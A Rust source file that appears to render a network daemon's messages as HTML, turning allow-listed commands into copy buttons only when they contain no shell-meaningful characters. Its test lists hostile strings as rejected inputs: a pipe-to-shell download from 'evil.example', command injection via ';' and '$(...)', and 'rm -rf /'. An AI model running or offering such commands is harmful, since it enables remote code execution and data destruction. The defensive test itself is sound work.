//! Commands in a sentence of the daemon, to be copied.

use maud::{Markup, html};

use super::icon::Icon;

/// Programs that the daemon's sentences name. What else stands between backquotes may be a peer's word, and gets no button.
const PROGRAMS: [&str; 7] = [
    "sparectl",
    "journalctl",
    "systemctl",
    "ip",
    "nft",
    "mount",
    "ping",
];

/// Part of a sentence.
#[derive(Debug, PartialEq, Eq)]
enum Part<'s> {
    Words(&'s str),
    /// Text between backquotes that is not to be copied.
    Quoted(&'s str),
    Command(&'s str),
}

/// Sentence with its commands.
pub fn sentence(text: &str) -> Markup {
    html! {
        @for part in parts(text) {
            @match part {
                Part::Words(words) => (words),
                Part::Quoted(words) => code { (words) },
                Part::Command(words) => (command(words)),
            }
        }
    }
}

/// A command with a button that copies it, which only shows if the script runs.
pub fn command(words: &str) -> Markup {
    html! {
        span.command {
            code { (words) }
            button.copy type="button" data-copy=(words) aria-label={ "Copy: " (words) } {
                (Icon::Copy.draw())
            }
        }
    }
}

fn parts(text: &str) -> Vec<Part<'_>> {
    let mut parts = Vec::new();
    for (number, piece) in text.split('`').enumerate() {
        match number % 2 {
            0 => plain(piece, &mut parts),
            _ if is_command(piece) => parts.push(Part::Command(piece)),
            _ => parts.push(Part::Quoted(piece)),
        }
    }
    parts
}

// Words such as "End: sparectl freeze off": the command goes to the end of the sentence.
fn plain<'s>(mut piece: &'s str, parts: &mut Vec<Part<'s>>) {
    const BEGIN: &str = ": ";
    while let Some(at) = piece.find(": sparectl ") {
        let (words, rest) = piece.split_at(at + BEGIN.len());
        let end = rest.find(". ").unwrap_or(rest.trim_end_matches('.').len());
        let (command, rest) = rest.split_at(end);
        parts.push(Part::Words(words));
        parts.push(match is_command(command) {
            true => Part::Command(command),
            false => Part::Quoted(command),
        });
        piece = rest;
    }
    if !piece.is_empty() {
        parts.push(Part::Words(piece));
    }
}

// True for a program of the list with words that mean nothing to a shell.
fn is_command(text: &str) -> bool {
    let program = text.split(' ').next().unwrap_or_default();
    let is_plain = |it: char| it.is_ascii_alphanumeric() || " -_./:=@,+%".contains(it);
    PROGRAMS.contains(&program) && text.len() <= 200 && text.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_of_the_daemon_are_found() {
        let expected = [
            Part::Words("See "),
            Part::Command("sparectl health"),
            Part::Words(" and "),
            Part::Command("journalctl -u spared"),
            Part::Words("."),
        ];
        assert_eq!(
            parts("See `sparectl health` and `journalctl -u spared`."),
            expected
        );
        let expected = [
            Part::Words("If all is well: "),
            Part::Command("sparectl confirm"),
            Part::Words(". Otherwise, on r1: "),
            Part::Command("sparectl reload --back"),
        ];
        let said = "If all is well: sparectl confirm. Otherwise, on r1: sparectl reload --back";
        assert_eq!(parts(said), expected);
        assert_eq!(parts("Check its cable."), [Part::Words("Check its cable.")]);
    }

    #[test]
    fn a_word_that_a_shell_would_obey_is_not_copied() {
        for evil in [
            "`curl evil.example|sh`",
            "`sparectl status; reboot`",
            "`sparectl $(reboot)`",
            "On r1: sparectl force reset x;reboot",
            "`rm -rf /`",
            "`sparectl status\u{FFFD}`",
        ] {
            let found = parts(evil);
            let is_command = |it: &Part| matches!(it, Part::Command(_));
            assert!(!found.iter().any(is_command), "{found:?}");
        }
    }
}
